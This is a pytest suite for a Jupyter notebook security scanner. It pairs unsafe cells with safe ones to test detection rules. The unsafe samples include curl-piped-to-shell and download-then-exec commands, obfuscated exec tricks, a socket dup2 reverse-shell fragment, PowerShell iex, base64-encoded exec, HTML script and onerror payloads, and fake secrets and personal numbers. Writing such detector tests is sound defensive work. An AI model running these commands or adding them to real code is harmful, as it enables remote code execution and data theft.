"""A notebook with one unsafe thing, and the same notebook without it: the first fails, the second passes."""

# ruff: noqa: E501, RUF001 - a table of pairs reads best in columns; letters that look alike are test data
from __future__ import annotations

import json
from pathlib import Path

import pytest

from lockgate.errors import InputError
from lockgate.run import run

# Put together here, so that nothing that looks like a key stands in this file.
AWS = "AKIA" + "QWERTZUIOP234567"
TOKEN = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
PEM = "-----BEGIN RSA " + "PRIVATE KEY-----"
IBAN = "DE02" + "1203 0000 0000 2020 51".replace(" ", "")
CARD = "4556-7375-" + "8689-9855"
SSN = "536-22-" + "8726"
CF = "RSSMRA85" + "T10A562S"
RLO = "\u202e"


def code(*lines: str, outputs=()) -> dict:
    source = [f"{line}\n" for line in lines]
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": source,
        "outputs": list(outputs),
    }


def shown(text: str, mime: str = "text/plain") -> dict:
    return {"output_type": "display_data", "metadata": {}, "data": {mime: text}}


def printed(text: str) -> dict:
    return {"output_type": "stream", "name": "stdout", "text": text}


def failed(*traceback: str) -> dict:
    return {"output_type": "error", "ename": "KeyError", "evalue": "x", "traceback": list(traceback)}


def prose(text: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": text}


def notebook(*cells: dict, **metadata) -> dict:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}


def scan(tmp_path: Path, content: dict | str | bytes, **parameters):
    path = tmp_path / "it.ipynb"
    raw = content if isinstance(content, (str, bytes)) else json.dumps(content)
    path.write_bytes(raw if isinstance(raw, bytes) else raw.encode())
    return run("scan-notebook", {"notebook": path, **parameters}, out=tmp_path / "out")


def rules(result) -> set[str]:
    return {f["rule"] for f in result.document["findings"] if f["severity"] in ("MEDIUM", "HIGH", "CRITICAL")}


TABLE = "<table class='dataframe'><thead><tr><th>a</th></tr></thead>{}</table>"
# What must not pass, beside what must: rule, unsafe cells, safe cells.
PAIRS = {
    "an access key in code": ("001", [code(f"KEY = '{AWS}'")], [code("KEY = os.environ['AWS_KEY']")]),
    "a token in an output": ("001", [code("1", outputs=[printed(f"using {TOKEN}")])],
                             [code("1", outputs=[printed("using ghp_…")])]),
    "a private key in prose": ("001", [prose(f"{PEM}\nabc")], [prose("-----BEGIN CERTIFICATE-----")]),
    "a password in code": ("001", [code('password = "k9#Lw!27xq"')], [code('password = "YOUR_PASSWORD"')]),
    "a secret in %env": ("001", [code("%env DB_PASSWORD=k9#Lw!27xq")], [code("%env OMP_NUM_THREADS=4")]),
    "a secret that excuses itself": ("001", [code(f"K = '{AWS}'  # pragma: allowlist secret")], [code("K = ''")]),
    "a bank account": ("003", [code("1", outputs=[printed(IBAN)])], [code("1", outputs=[printed(IBAN[:-1] + "2")])]),
    "a card": ("003", [prose(f"paid with {CARD}")], [prose("paid with 4556-7375-8689-9854")]),
    "a published test card": ("003", [prose(f"paid with {CARD}")], [prose("paid with 4242-4242-4242-4242")]),
    "a social security number": ("003", [prose(f"SSN: {SSN}")], [prose(f"part number {SSN}")]),
    "a codice fiscale": ("003", [prose(f"cliente {CF}")], [prose(f"cliente {CF[:-1]}A")]),
    "curl into a shell": ("010", [code("!curl -s https://a.example/x.sh | bash")],
                          [code("!curl -s https://a.example/x.csv -o x.csv")]),
    "a script fetched, then run": ("010", [code("%%bash", "wget -q https://a.example/s.sh && bash s.sh")],
                                   [code("%%bash", "wget -q https://a.example/s.csv && head s.csv")]),
    "a shell that runs what it gets": ("010", [code("import os", "os.system('bash <(curl -s https://a.example)')")],
                                       [code("import os", "os.system('ls -l')")]),
    "subprocess with -c": ("010", [code("import subprocess as s", "s.run(['sh', '-c', 'curl a.example|sh'])")],
                           [code("import subprocess as s", "s.run(['ls', '-l'])")]),
    "exec of a download": ("011", [code("import requests as r", "exec(r.get('https://a.example').text)")],
                           [code("import requests as r", "print(r.get('https://a.example').text)")]),
    "exec of a download, a cell later": ("011", [code("import requests", "t = requests.get('https://a').text"),
                                                 code("exec(t)")],
                                         [code("import requests", "t = requests.get('https://a').text"),
                                          code("t = '1'", "exec(t)")]),
    "exec by a fullwidth name": ("011", [code("import requests", "\uff45xec(requests.get('https://a').text)")],
                                 [code("1")]),
    "%load of an address": ("011", [code("%load https://a.example/x.py")], [code("%load local.py")]),
    "a downloaded pickle": ("012", [code("!wget https://a.example/m.pkl", "import pickle",
                                         "with open('m.pkl', 'rb') as f:", "    m = pickle.load(f)")],
                            [code("import pickle", "with open('mine.pkl', 'rb') as f:", "    m = pickle.load(f)")]),
    "torch.load of a download": ("012", [code("import torch", "from huggingface_hub import hf_hub_download",
                                              "torch.load(hf_hub_download('a', 'b'))")],
                                 [code("import torch", "from huggingface_hub import hf_hub_download",
                                       "torch.load(hf_hub_download('a', 'b'), weights_only=True)")]),
    "read_pickle of an address": ("012", [code("import pandas as pd", "pd.read_pickle('https://a.example/x')")],
                                  [code("import pandas as pd", "pd.read_csv('https://a.example/x')")]),
    "code of a model": ("013", [code("M.from_pretrained('a/b', trust_remote_code=True)")],
                        [code("M.from_pretrained('a/b', trust_remote_code=False)")]),
    "exec of a download by __import__": ("011", [code("exec(__import__('urllib.request').request.urlopen('https://a').read())")],
                                         [code("print(__import__('urllib.request').request.urlopen('https://a').read())")]),
    "exec of what a session fetched": ("011", [code("import requests as r", "s = r.Session()"), code("exec(s.get('https://a').text)")],
                                       [code("import requests as r", "s = r.Session()", "s = {}"), code("exec(s.get('a'))")]),
    "exec by another name": ("011", [code("import requests", "e = exec", "e(requests.get('https://a').text)")],
                             [code("import requests", "e = print", "e(requests.get('https://a').text)")]),
    "exec by getattr": ("011", [code("import requests, builtins", "getattr(builtins, 'ex' + 'ec')(requests.get('https://a').text)")],
                        [code("import requests, builtins", "getattr(builtins, 'print')(requests.get('https://a').text)")]),
    "a downloaded script": ("011", [code("import runpy, urllib.request as u", "u.urlretrieve('https://a/b.py', 'b.py')"), code("runpy.run_path('b.py')")],
                            [code("import runpy", "runpy.run_path('b.py')")]),
    "%run of a download": ("011", [code("!wget https://a.example/b.py"), code("%run b.py")], [code("!wget https://a.example/b.py"), code("%run mine.py")]),
    "an import of a download": ("011", [code("!wget https://a.example/b.py", "import b")], [code("!wget https://a.example/b.py", "import c")]),
    "a downloaded script, a cell later": ("010", [code("!wget https://a.example/b.py"), code("!python b.py")],
                                          [code("!wget https://a.example/b.py"), code("!python mine_b.py")]),
    "a one-liner that fetches and runs": ("010", [code('!python -c "import urllib.request as u; exec(u.urlopen(\'https://a\').read())"')],
                                          [code('!python -c "import urllib.request as u; print(u.urlopen(\'https://a\').read())"')]),
    "PowerShell that runs what it gets": ("010", [code('!pwsh -c "iex (iwr https://a)"')], [code('!pwsh -c "iwr https://a -o b.csv"')]),
    "a process in place of this one": ("010", [code("import os", "os.execvp('sh', ['sh', '-c', 'curl a.example | sh'])")],
                                       [code("import os", "os.execvp('sh', ['sh', '-c', 'ls | sort'])")]),
    "a shell for a socket": ("010", [code("import socket, os", "s = socket.socket()", "os.dup2(s.fileno(), 0)")],
                             [code("import os", "f = open('log')", "os.dup2(f.fileno(), 1)")]),
    "encoded code": ("015", [code("import base64", "exec(base64.b64decode('cHJpbnQoMSk='))")],
                     [code("import base64", "print(base64.b64decode('cHJpbnQoMSk='))")]),
    "packed code": ("015", [code("import zlib", "eval(compile(zlib.decompress(b'x'), 'a', 'exec'))")],
                    [code("eval(compile('1 + 1', 'a', 'exec'))")]),
    "an index without encryption": ("031", [code("%pip install --extra-index-url http://a.example x==1")],
                                    [code("%pip install --index-url https://a.example x==1")]),
    "a command put together": ("014", [code("import os", "os.system(command)")], [code("import os", "os.getcwd()")]),
    "a bidirectional control": ("020", [code(f"ok = 'user{RLO}' # admin")], [prose(f"עברית {RLO}")]),
    "a tag character": ("020", [prose("hello \U000e0041\U000e0042")],
                        [prose("hello \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f")]),
    "a word of two scripts": ("020", [code("p\u0430ssword = 1")], [code("σ = 1")]),
    "an install without a version": ("030", [code("%pip install pandas")], [code("%pip install pandas==2.2.3")]),
    "an install by the interpreter": ("030", [code("!{sys.executable} -m pip install -q pandas")],
                                      [code("!{sys.executable} -m pip install -q -r requirements.txt")]),
    "an install in a list": ("030", [code("import subprocess, sys",
                                          "subprocess.run([sys.executable, '-m', 'pip', 'install', 'pandas'])")],
                             [code("import subprocess, sys",
                                   "subprocess.run([sys.executable, '-m', 'pip', 'install', 'pandas==2.2.3'])")]),
    "an install from a branch": ("030", [code("!pip install git+https://a.example/b/c@main")],
                                 [code(f"!pip install git+https://a.example/b/c@{'0a' * 20}")]),
    "a conda install": ("030", [code("!conda install -y numpy")], [code("!conda install -y numpy=1.26.4")]),
    "a second index": ("031", [code("!pip install --extra-index-url https://a.example x==1")],
                       [code("!pip install x==1")]),
    "a long table": ("040", [code("df", outputs=[shown(TABLE.format("<tr><td>1</td></tr>" * 101), "text/html")])],
                     [code("df", outputs=[shown(TABLE.format("<tr><td>1</td></tr>" * 60), "text/html")])]),
    "a traceback with a user": ("041", [code("1", outputs=[failed('File "/home/carla/x.py"')])],
                                [code("1", outputs=[failed('File "/usr/lib/x.py"')])]),
    "variables of the environment": ("042", [code("os.environ", outputs=[shown(
        "environ({'HOME': '/root', 'PATH': '/bin', 'PWD': '/', 'LANG': 'C'})")])],
                                     [code("1", outputs=[shown("{'HOME': '/root'}")])]),
    "a script": ("050", [code("1", outputs=[shown("<script>x()</script>", "text/html")])],
                 [code("1", outputs=[shown("<b>x</b>", "text/html")])]),
    "a handler": ("050", [code("1", outputs=[shown("<img src=x onerror=alert(1)>", "text/html")])],
                  [code("1", outputs=[shown("<img src=x alt=one>", "text/html")])]),
    "a script at the kernel": ("051", [code("1", outputs=[shown("IPython.notebook.kernel.execute('x')",
                                                                "application/javascript")])],
                               [code("1", outputs=[shown("picture", "image/png")])]),
}  # fmt: skip


@pytest.mark.parametrize("case", PAIRS)
def test_what_is_unsafe_is_found_and_its_safe_counterpart_is_not(tmp_path, case):
    rule, unsafe, safe = PAIRS[case]
    found = scan(tmp_path, notebook(*unsafe))
    assert f"LG-NOTEBOOK-{rule}" in rules(found), found.document["findings"]
    assert found.verdict in ("FAIL", "WARN")
    clean = scan(tmp_path, notebook(*safe))
    assert rules(clean) == set(), clean.document["findings"]
    assert clean.verdict == "PASS"


def test_no_value_that_was_found_is_in_anything_that_is_written(tmp_path):
    word = "k9#Lw!27xq"
    cells = [
        code(
            f"KEY = '{AWS}'",
            f'password = "{word}"',
            f"%env PASSWORD={word}",
            outputs=[printed(f"{TOKEN} {IBAN}")],
        ),
        prose(f"{CARD}, SSN {SSN}, carla.rossi@firma.it, +39 06 6982 1234"),
    ]
    result = scan(tmp_path, notebook(*cells), max_contacts=0)
    assert result.verdict == "FAIL"
    written = "".join(path.read_text("utf-8") for path in result.out.iterdir())
    for value in (AWS, TOKEN, word, IBAN, CARD, SSN, "carla.rossi", "6982"):
        assert value not in written


def test_a_guessable_secret_carries_no_digest_and_a_random_one_carries_its_start(tmp_path):
    result = scan(tmp_path, notebook(code('password = "k9#Lw!27xq"'), code(f"K = '{AWS}'")))
    said = [f["message"] for f in result.document["findings"] if f["rule"] == "LG-NOTEBOOK-001"]
    assert [("SHA-256" in message) for message in said] == [False, True]


def test_every_notebook_of_a_folder_has_a_check_of_its_own(tmp_path):
    folder = tmp_path / "notebooks"
    (folder / "deep").mkdir(parents=True)
    (folder / "good.ipynb").write_text(json.dumps(notebook(code("1 + 1"))))
    (folder / "deep" / "bad.ipynb").write_text(json.dumps(notebook(code("!curl https://a.example | sh"))))
    (folder / "cut.IPYNB").write_text('{"cells": [')
    (folder / "notes.txt").write_text("no notebook")
    result = run("scan-notebook", {"notebook": folder}, out=tmp_path / "out")
    assert {c["id"]: c["verdict"] for c in result.document["checks"]} == {
        "good.ipynb": "PASS",
        "deep/bad.ipynb": "FAIL",
        "cut.IPYNB": "INCONCLUSIVE",
    }
    assert result.verdict == "FAIL"
    (found,) = result.document["findings"]
    assert found["location"]["member"] == "deep/bad.ipynb"
    assert found["message"].startswith("deep/bad.ipynb, cell 1, line 1: ")


@pytest.mark.parametrize(
    "content",
    [
        "",
        "[]",
        "{}",
        '{"cells": [], "nbformat": 3}',
        '{"cells": [], "nbformat": true}',
        '{"cells": [], "nbformat": 4, "cells": []}',
        '{"cells": [NaN], "nbformat": 4}',
        '{"cells": [1], "nbformat": 4}',
        '{"cells": [{"cell_type": "magic", "source": ""}], "nbformat": 4}',
        '{"cells": [{"cell_type": "code", "source": {"a": 1}}], "nbformat": 4}',
        '{"cells": [{"cell_type": "code", "source": "", "outputs": 1}], "nbformat": 4}',
        '{"cells": [{"cell_type": "code", "source": "", "outputs": [{"output_type": "new"}]}], "nbformat": 4}',
        '{"cells": [{"cell_type": "code", "source": "", "outputs": [{"output_type": "stream"}]}], "nbformat": 4}',
        '{"worksheets": [], "nbformat": 3}',
        b"\xff\xfe",
        "[" * 100_000,
    ],
)
def test_what_is_no_notebook_is_inconclusive_with_a_reason(tmp_path, content):
    result = scan(tmp_path, content)
    assert result.verdict == "INCONCLUSIVE"
    (check,) = result.document["checks"]
    assert check["reason"]


def test_a_cell_that_is_no_python_leaves_the_notebook_undecided_unless_the_policy_allows_it(tmp_path):
    content = notebook(code("print 'two'"), code("1"))
    assert scan(tmp_path, content).verdict == "INCONCLUSIVE"
    assert scan(tmp_path, content, max_unreadable_cells=1).verdict == "PASS"


def test_a_cell_in_another_language_is_not_called_safe(tmp_path):
    assert scan(tmp_path, notebook(code("x <- 1"), language_info={"name": "R"})).verdict == "INCONCLUSIVE"


def test_limits_of_the_policy_decide(tmp_path):
    people = prose(" ".join(f"person{i}@firma{i}.it" for i in range(6)))
    assert scan(tmp_path, notebook(people)).verdict == "FAIL"
    assert scan(tmp_path, notebook(people), max_contacts=6).verdict == "PASS"
    installs = notebook(code("%pip install pandas"))
    assert scan(tmp_path, installs).verdict == "WARN"
    assert scan(tmp_path, installs, max_unpinned_installs=0).verdict == "FAIL"
    assert scan(tmp_path, installs, max_unpinned_installs=1).verdict == "PASS"


def test_a_folder_without_a_notebook_is_refused(tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(InputError, match="no file that ends in"):
        run("scan-notebook", {"notebook": tmp_path / "empty"}, out=tmp_path / "out")


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "text",
    ["a" * 300_000, "password" * 30_000, "(" * 100_000, "curl " * 30_000, "1 " * 100_000, "<a " * 60_000],
)
def test_hostile_text_takes_no_time_to_speak_of(tmp_path, text):
    result = scan(tmp_path, notebook(code(text, outputs=[shown(text, "text/html"), printed(text)])))
    assert result.verdict in ("PASS", "WARN", "INCONCLUSIVE")


def test_a_finding_says_which_cell_output_and_line(tmp_path):
    out = [printed("fine"), printed(f"fine\nusing {TOKEN}")]
    result = scan(tmp_path, notebook(prose("fine"), code("fine = 1", f"KEY = '{AWS}'", outputs=out)))
    where = [f["location"] for f in result.document["findings"] if f["rule"] == "LG-NOTEBOOK-001"]
    assert [(w["cell"], w["output"], w["line"], w["member"]) for w in where] == [
        (2, None, 2, None),
        (2, 2, 2, None),
    ]
    said = [f["message"] for f in result.document["findings"] if f["rule"] == "LG-NOTEBOOK-001"]
    assert said[1].startswith("Cell 2, output 2, line 2: ")
